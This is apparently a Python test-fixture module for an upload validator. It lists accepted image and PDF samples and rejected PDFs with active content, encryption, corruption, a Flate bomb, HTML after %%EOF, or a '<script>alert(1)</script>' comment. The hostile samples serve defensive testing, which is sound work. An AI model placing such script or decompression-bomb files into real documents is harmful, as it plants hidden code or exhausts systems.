    _pdf("PDF with a link to a remote PDF (GoToR)", _letter_with(link=_GOTOR_ACTION), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF with an attachment added by pypdf", _cached(_pdf_attachment_by_pypdf), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF with an XFA form", _cached(_pdf_with_xfa), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF with an action when its page opens (AA)", _letter_with(page_extra=_PAGE_AA), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF whose OpenAction runs JavaScript", _letter_with(open_action=_JS_ACTION), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF whose OpenAction prints it", _letter_with(open_action=_PRINT_ACTION), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF encrypted with RC4 by pypdf", _cached(lambda: _pdf_encrypted_by_pypdf("RC4-128")), E.PDF_ENCRYPTED),
    _pdf("PDF encrypted with AES by pypdf", _cached(lambda: _pdf_encrypted_by_pypdf("AES-256")), E.PDF_ENCRYPTED),
    _pdf("PDF with a truncated Flate stream", _cached(_pdf_truncated_flate), E.CORRUPT),
    _pdf("PDF with a Flate bomb", _cached(_pdf_flate_bomb), E.CORRUPT),
    _pdf("truncated PDF", _cut(clean_pdf, 2 / 3), E.CORRUPT),
    _pdf("PDF header then garbage", lambda: b"%PDF-1.4\n" + bytes(range(256)) * 4, E.CORRUPT),
    _pdf("PDF with HTML after %%EOF", _append(clean_pdf, _HTML_PAGE), E.HIDDEN_CONTENT),
    _pdf(
        "PDF with a script in a comment",
        _cached(lambda: letter_pdf(after_header=b"%<script>alert(1)</script>\n")),
        E.HIDDEN_CONTENT,
    ),
]


def _mpo() -> bytes:
    """A multi-picture JPEG (MPF), as phones write with a second image (preview, depth map) after the first."""
    second = card_image((640, 480), seed=2)
    return encode(card_image((1600, 1200)), "MPO", save_all=True, append_images=[second])


def _transparent_png() -> bytes:
    """Transparent left half (must come out white, not black), opaque right half."""
    image = card_image((1000, 700)).convert("RGBA")
    alpha = Image.new("L", image.size, 255)
    alpha.paste(0, (0, 0, image.width // 2, image.height))
    image.putalpha(alpha)
    return encode(image, "PNG")


def _sixteen_bit_png() -> bytes:
    gray = card_image((1000, 700)).convert("L")
    return encode(gray.point(lambda v: v * 256, "I").convert("I;16"), "PNG")


def _object_stream_pdf() -> bytes:
    """How PDF 1.5+ writers store dictionaries: the catalog and a note packed in a compressed object stream."""
    return _pdf_with_packed_link_action(b"<< /S /GoTo /D [3 0 R /FitH 842] >>")


_DOCUMENT = {"allowed": DOCUMENT_KINDS, "content_type": "application/pdf"}

GOOD_UPLOADS: list[GoodUpload] = [
    GoodUpload(
        "phone photo with EXIF, GPS and orientation 6",
        "IMG_20240501_100000.jpg",
        phone_photo,
        FileKind.JPEG,
        from_camera=True,
        camera="Samsung SM-A515F",
    ),
    GoodUpload("screenshot PNG without EXIF", "Screenshot_20240501-100000.png", screenshot_png, FileKind.PNG),
    GoodUpload("multi-picture JPEG (MPO)", "IMG_0002.jpg", _cached(_mpo), FileKind.JPEG),
    GoodUpload(
        "JPEG with a trailer after the end of image",
        "IMG_0003.jpg",
        _append(small_jpeg, b"SEFH\x00\x00\x00\x01Image_UTC_Data1714532400000"),
        FileKind.JPEG,
    ),
    GoodUpload("CMYK JPEG from a scanner", "scan.jpeg", _image((1200, 900), "JPEG", mode="CMYK"), FileKind.JPEG),
    GoodUpload("greyscale JPEG", "scan.jpg", _image((1200, 900), "JPEG", mode="L"), FileKind.JPEG),
    GoodUpload("progressive JPEG", "ktp.jpg", _cached(lambda: jpeg(progressive=True)), FileKind.JPEG),
    GoodUpload("palette PNG", "ktp.png", _image((1000, 700), "PNG", mode="P"), FileKind.PNG),
    GoodUpload("transparent PNG", "ktp.png", _cached(_transparent_png), FileKind.PNG),
    GoodUpload("16-bit greyscale PNG", "ktp.png", _cached(_sixteen_bit_png), FileKind.PNG),
    GoodUpload("smallest accepted: 640 x 400", "ktp.jpg", _cached(lambda: jpeg((640, 400))), FileKind.JPEG),
    GoodUpload("PNG named .jpg", "ktp.jpg", screenshot_png, FileKind.PNG),
    GoodUpload("JPEG named .png", "ktp.png", small_jpeg, FileKind.JPEG),
    GoodUpload("JPEG with no extension", "image", small_jpeg, FileKind.JPEG, content_type="application/octet-stream"),
    GoodUpload("JPEG that iOS converted but kept its HEIC name", "IMG_0004.HEIC", small_jpeg, FileKind.JPEG),
    GoodUpload("upper-case extension and a Windows path", "C:\\fakepath\\KTP.JPG", small_jpeg, FileKind.JPEG),
    GoodUpload("clean PDF letter", "surat-pernyataan.pdf", clean_pdf, FileKind.PDF, **_DOCUMENT),
    GoodUpload("PDF 1.5 with an object stream", "surat.pdf", _cached(_object_stream_pdf), FileKind.PDF, **_DOCUMENT),
    GoodUpload(
        "PDF whose OpenAction is a GoTo action",
        "surat.pdf",
        _cached(lambda: letter_pdf(open_action=b"<< /S /GoTo /D [3 0 R /Fit] >>")),
        FileKind.PDF,
        **_DOCUMENT,
    ),
    GoodUpload(
        "PDF rewritten by pypdf",
        "surat.pdf",
        _cached(lambda: _pdf_rewritten_by_pypdf(lambda writer: writer.compress_identical_objects())),
        FileKind.PDF,
        **_DOCUMENT,
    ),
    GoodUpload(
        "PDF with an incremental update (a signing app's save)",
        "surat.pdf",
        _cached(lambda: _pdf_rewritten_by_pypdf(lambda w: w.add_metadata({"/Title": "Surat"}), incremental=True)),
        FileKind.PDF,
        **_DOCUMENT,
    ),
    GoodUpload(
        "PDF with a scanned page whose pixels spell /JS",
        "scan.pdf",
        _cached(_pdf_with_scanned_page),
        FileKind.PDF,
        **_DOCUMENT,
    ),
    GoodUpload("JPEG where documents are allowed", "surat.jpg", small_jpeg, FileKind.JPEG, allowed=DOCUMENT_KINDS),
]


# --- Large PNGs written row by row (tests/uploads/test_memory.py, test_images.py) ---------------------------


def png_by_rows(width: int, height: int, color_type: int, bit_depth: int, row, *, level: int = 1) -> bytes:
    """A PNG written row by row (filter 0) without holding its pixels: ``row(y)`` gives each row's bytes."""
    compressor = zlib.compressobj(level)
    idat = b"".join(compressor.compress(b"\x00" + row(y)) for y in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    chunks = [png_chunk(b"IHDR", header)]
    if color_type == 3:
        chunks.append(png_chunk(b"PLTE", bytes(range(256)) * 3))
    chunks += [png_chunk(b"IDAT", idat), png_chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def noisy_rows(row_bytes: int, noisy: int, seed: int = 7):
    """Rows of white with ``noisy`` random bytes each, so the file has the bytes its pixels need."""
    rng = random.Random(seed)
    white = b"\xff" * (row_bytes - noisy)
    return lambda _y: rng.randbytes(noisy) + white


def review_png() -> bytes:
    """The finding's file: 6300 x 6300 RGB, white with dark rules every 120 rows, ~170 KB."""
    white, rule = b"\xff" * (6300 * 3), b"\xff" * 900 + b"\x14" * (5700 * 3)
    return png_by_rows(6300, 6300, 2, 8, lambda y: rule if y % 120 < 3 else white, level=9)
